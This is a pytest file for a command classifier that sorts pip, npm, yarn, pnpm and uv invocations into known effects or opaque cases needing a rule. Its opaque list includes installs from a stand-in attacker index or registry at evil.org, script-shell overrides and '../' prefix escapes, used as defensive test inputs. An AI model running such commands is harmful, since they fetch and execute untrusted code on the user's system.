"""Package managers: queries are known, everything that installs or runs code says so."""

from __future__ import annotations

import pytest
from util import opaque, run

INSTALL = ["system installs packages", "write /p recursive", "execute package scripts", "network <dynamic>"]
SCRIPT = ["execute /p recursive", "execute npm script"]

KNOWN = [
    ("pip list --format=json", ["read /p"]),
    ("pip3 show -f x", ["read /p"]),
    ("pip freeze", ["read /p"]),
    ("pip freeze -r a.txt", ["read /p/a.txt", "read /p"]),
    ("pip check", ["read /p"]),
    ("pip config list", ["read /p"]),
    ("pip --version", []),
    ("pip", []),
    ("npm", []),
    ("pip hash a", ["read /p/a"]),
    ("pip install x", INSTALL),
    ("pip install -r r.txt", ["read /p/r.txt", *INSTALL]),
    ("pip install -e .", ["execute /p recursive", *INSTALL]),
    ("pip install --targ /tmp x", ["write /tmp via -t", *INSTALL]),
    ("pip uninstall -y x", ["system removes packages"]),
    ("pip --log l list", ["write /p/l via --log", "read /p"]),
    ("npm ls --depth=0", ["read /p"]),
    ("npm view x version", ["read /p", "network <dynamic>"]),
    ("npm outdated", ["read /p", "network <dynamic>"]),
    ("npm --version", []),
    ("npm run", ["read /p"]),
    ("npm run build -- --x", ["execute /p recursive", "execute npm script"]),
    ("npm test", SCRIPT),
    ("npm start", SCRIPT),
    ("npm test --loglevel=error -- --prefix x", SCRIPT),
    ("pnpm test --prefix x", ["execute /p", *SCRIPT]),
    ("npm ci", INSTALL),
    ("npm i -D x", INSTALL),
    ("pnpm list", ["execute /p", "read /p"]),
    ("yarn --version", ["execute /p"]),
    ("yarn", ["execute /p", *INSTALL]),
    ("yarn test", ["execute /p", *SCRIPT]),
    ("uv --version", ["execute /p"]),
    ("uv pip list", ["execute /p", "read /p"]),
]

OPAQUE = [
    "pip $X",
    "pip install --index-url http://evil.org x",
    "pip install --extra-index=http://evil.org x",
    "pip install -r https://evil.org/r.txt",
    "pip install $@",
    "pip config set a b",
    "pip list --unknown",
    "npm run $X",
    "npm test --script-shell=./x",
    "npm test --scr ./x",
    "npm run lint --prefix ../x",
    "npm test -C ../x",
    "npm run --script-shell=x build",
    "npm ls --script-shell=x",
    "npm exec x",
    "npm x y",
    "npm init x",
    "npm audit fix",
    "npm audit $X",
    "npm config set a b",
    "npm publish",
    "npm install --registry http://evil.org x",
    "yarn dlx x",
    "yarn build",
    "pnpm exec x",
    "uv run x",
    "uv sync",
    "uv pip install x",
    "uv $X",
]


@pytest.mark.parametrize(("line", "expected"), KNOWN)
def test_known(line: str, expected: list[str]) -> None:
    """A query reads; an installation says that it installs, runs package code and contacts a registry."""
    assert run(line) == expected
    assert not opaque(line)


@pytest.mark.parametrize("line", OPAQUE)
def test_not_known(line: str) -> None:
    """Builds, remote programs, other indexes and configuration changes need a command rule."""
    assert opaque(line)
